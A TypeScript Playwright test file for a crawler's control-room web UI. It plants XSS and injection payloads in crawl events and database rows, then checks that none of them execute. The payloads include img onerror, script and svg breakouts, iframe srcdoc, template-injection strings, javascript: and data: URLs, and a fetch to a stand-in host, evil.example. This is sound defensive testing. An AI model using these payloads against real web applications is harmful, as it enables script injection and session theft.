import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { appendFile, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { crawl } from '../../src/app/crawl/crawl.js';
import type { OpenControlRoom } from '../../src/extensions/server/control-room/serve-control-room.js';
import { openCrawlDatabase } from '../../src/crawling/store/crawl-database.js';
import { readEvents } from '../../src/crawling/store/result-folder.js';
import { createWebFetcher } from '../../src/web/stored/fetcher.js';
import { beeTopic, openSmallWeb } from '../support/bee-topic.js';
import { collected } from '../support/collected.js';
import { crawlEvent, eventLines, noun } from '../support/crawl-events.js';
import { manualClock } from '../support/manual-clock.js';
import { SMALL_SEED } from '../support/small-corpus.js';
import { openRoom, startBrowser, whyNoBrowser } from './browser.js';
import { describeUnless } from './data.js';
import { DATABASE } from '../../src/support/crawl-folder.js';
import { storePage } from '../support/stored-pages.js';

const SCRIPT = 'window.hacked=1;alert(1);fetch("http://evil.example/")';
/** What runs where a text is read as markup, as an address, or as a part of a script. */
const HOSTILE = [
  `<img src=x onerror='${SCRIPT}'>`,
  `"><script>${SCRIPT}</script><b a="`,
  `'><svg onload=${SCRIPT}><a x='`,
  `</title></textarea></script><iframe srcdoc="<script>parent.${SCRIPT}</script>">`,
  `<style>@import "http://evil.example/";</style><base href="http://evil.example/">`,
  `{{constructor.constructor('${SCRIPT}')()}} \${${SCRIPT}} \u202Eevil\u0000\u2028`,
] as const;
const ALL = HOSTILE.join(' ');
/** What is no address at all is refused with its line when events are read. */
const ADDRESSES = [
  `javascript:${SCRIPT}//http://`,
  `data:text/html,<script>${SCRIPT}</script>`,
  `http://evil.example/?${HOSTILE[0]}`,
  `http://evil.example/${HOSTILE[1]}`,
  `http://__proto__/`,
];

describeUnless(whyNoBrowser(), 'a control room full of hostile texts, in Chromium', () => {
  const { root, kb } = beeTopic();
  const out = path.join(root, 'out');
  let room: OpenControlRoom;
  let browser: Browser;
  let page: Page;
  const [dialogs, foreign, errors]: [string[], string[], string[]] = [[], [], []];

  beforeAll(async () => {
    const web = await openSmallWeb(root);
    const place = {
      kb,
      topic: 'bees',
      seeds: [SMALL_SEED],
      out,
      maxPages: 4,
      follow: 'all',
      concurrency: 1,
    } as const;
    await crawl({ ...place, workers: 1, fetcher: createWebFetcher(web), clock: manualClock() }).summary;
    await makeHostile(out);
    room = await openRoom(out);
    browser = await startBrowser();
    page = await browser.newPage();
    page.setDefaultTimeout(10_000);
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('request', (request) => {
      if (!request.url().startsWith(room.address) && !request.url().startsWith('data:image'))
        foreign.push(request.url());
    });
    page.on('pageerror', (error) => errors.push(error.message));
    await page.goto(room.link);
    await page.fill('#name', HOSTILE[0].slice(0, 40));
  }, 60_000);

  afterAll(async () => {
    await browser.close();
    await room.close();
  });

  /** Nothing has run, been asked for, or become a link that would run. */
  async function isSafe(): Promise<void> {
    const links = await page.evaluate(() =>
      [...document.querySelectorAll('a, area, form, iframe, img, object, embed')].map(
        (element) => element.getAttribute('href') ?? element.getAttribute('src') ?? element.localName,
      ),
    );
    expect(links.filter((link) => /^\s*(?:javascript|data|vbscript):/i.test(link))).toEqual([]);
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect([dialogs, foreign, errors]).toEqual([[], [], []]);
  }

  it.each([
    ['overview', '[aria-label="latest accepted pages"] tbody tr'],
    ['pages', '[aria-label="pages"] tbody tr'],
    ['teach', '[data-answer="yes"]'],
    ['hosts', '[aria-label="hosts"] tbody tr'],
    ['steer', '[aria-label="actions"] tbody tr'],
    [`pages=${encodeURIComponent(ALL)}`, '[aria-label="pages"] tbody tr'],
    [`page=%`, 'main'],
    [`page=${encodeURIComponent(ALL)}`, 'main'],
    ...ADDRESSES.map((url) => [`page=${encodeURIComponent(url)}`, 'main h2'] as const),
  ])('shows #%s as the text that it is', async (view, ready) => {
    await page.evaluate((hash) => (location.hash = hash), view);
    await page.locator(ready).first().waitFor();
    await page.waitForTimeout(200);
    if (['overview', 'pages', 'steer'].includes(view))
      expect(await page.textContent('main')).toContain('<img src=x');
    await isSafe();
  });

  it('shows hostile literals in answers to queries as the texts that they are', async () => {
    // Addresses that a crawl never has are not RDF; titles may be anything.
    const all = await collected(readEvents(out));
    const real = all.filter(({ url }) => !ADDRESSES.includes(url));
    await writeFile(path.join(out, 'events.jsonl'), eventLines(real));
    await page.goto(new URL('/ask/0/#sparql', room.address).href);
    await page.locator('#fresh', { hasText: 'the crawl as of' }).waitFor();
    const query = 'PREFIX dcterms: <http://purl.org/dc/terms/> SELECT * { GRAPH ?g { ?s dcterms:title ?o } }';
    await page.getByLabel('SPARQL query').fill(query);
    await page.locator('#run').click();
    await page.locator('#results table', { hasText: '<img src=x' }).waitFor();
    await isSafe();
  });
});

/** Puts hostile texts wherever the results of a crawl hold what comes from the Web, or from other people. */
async function makeHostile(out: string): Promise<void> {
  const evidence = HOSTILE.map((text) => noun(text));
  const file = path.join(out, 'events.jsonl');
  // No event may be missing before these.
  const next = (await readFile(file, 'utf8')).split('\n').length;
  const events = ADDRESSES.map((url, place) =>
    crawlEvent({
      sequence: next + 2 + place,
      url,
      title: ALL,
      score: 0.9,
      threshold: 0.2,
      summary: ALL,
      evidence,
      referrer: ADDRESSES[place - 1] ?? SMALL_SEED,
      anchorText: ALL,
      priority: { value: 1, reason: ALL, contributions: [{ feature: ALL, value: 1 }] },
    }),
  );
  // A page that people of good will may have written: its RDF is as it should be, but for its texts.
  const written = crawlEvent({
    sequence: next + 1,
    url: `${SMALL_SEED}x`,
    stored: storePage(out, { url: `${SMALL_SEED}x`, text: ALL }),
    title: ALL,
    score: 0.9,
    anchorText: ALL,
  });
  const failed = crawlEvent({
    sequence: next,
    url: `${SMALL_SEED}y`,
    state: 'failed',
    code: 'network',
    message: ALL,
  });
  await appendFile(file, eventLines([failed, written, ...events]));
  const action = {
    id: 'a',
    by: ALL,
    time: new Date(0).toISOString(),
    after: 1,
    effect: ALL,
    refused: true,
    action: { kind: 'block', what: ALL },
  };
  await writeFile(path.join(out, 'actions.jsonl'), `${JSON.stringify(action)}\n`);
  const database = openCrawlDatabase(path.join(out, DATABASE));
  const entry = { url: ADDRESSES[0], referrer: ALL, depth: 1, priority: { value: 9, reason: ALL } };
  database.prepare('UPDATE urls SET entry = ? WHERE entry IS NOT NULL').run(JSON.stringify(entry));
  database.prepare('UPDATE urls SET host = host || ?').run(HOSTILE[0]);
  database.close();
}
